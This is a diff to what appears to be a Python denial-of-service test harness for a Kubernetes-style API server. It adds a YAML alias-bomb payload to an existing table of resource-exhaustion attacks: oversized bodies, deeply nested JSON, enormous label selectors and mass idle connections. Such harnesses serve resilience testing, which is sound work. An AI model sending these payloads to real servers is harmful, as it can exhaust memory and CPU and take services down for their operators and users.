@@ -30,6 +30,9 @@ CONFIG_MAPS = "/api/v1/namespaces/abuse/configmaps"
 JSON = "application/json"
 PODS_PATH = "/api/v1/namespaces/abuse/pods"
 
+# Nine of each before: 9^9 in the end.
+ALIASES = "a0: &a0 [x]\n" + "".join(f"a{i}: &a{i} [{','.join([f'*a{i - 1}'] * 9)}]\n" for i in range(1, 10))
+
 # name: what the clients do with an answer, method, path, content type, body, connections
 ATTACKS = {
     "GET": ("ask", "GET", CONFIG_MAPS + "/big", None, None, CONNECTIONS),
@@ -45,6 +48,7 @@ ATTACKS = {
     "idle": ("idle", "GET", CONFIG_MAPS + "/small", None, None, 10_000),
     "huge bodies": ("ask", "POST", CONFIG_MAPS, JSON, {"data": {"k": "v" * 4_000_000}}, CONNECTIONS),
     "deep JSON": ("ask", "POST", CONFIG_MAPS, JSON, "[" * 100_000, CONNECTIONS),
+    "alias bombs": ("ask", "POST", CONFIG_MAPS, "application/yaml", ALIASES, CONNECTIONS),
     "selector": ("ask", "GET", PODS_PATH + "?labelSelector=" + ",".join(f"!t{i}" for i in range(1000)), None, None, CONNECTIONS),
     "long selector": ("ask", "GET", PODS_PATH + "?labelSelector=" + ",".join(f"!t{i}" for i in range(100_000)), None, None, CONNECTIONS),
     BUSY: ("burn", "GET", NEIGHBOUR, None, None, 1),
